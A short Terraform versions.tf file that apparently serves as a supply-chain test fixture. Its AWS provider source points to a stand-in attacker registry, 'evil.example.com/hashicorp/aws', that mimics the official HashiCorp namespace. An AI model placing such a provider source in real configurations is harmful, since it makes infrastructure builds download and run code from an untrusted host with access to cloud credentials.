# at: infra/modules/q/versions.tf
terraform {
  required_providers {
    aws = {
      source  = "evil.example.com/hashicorp/aws"
      version = ">= 3.39"
    }
  }
}
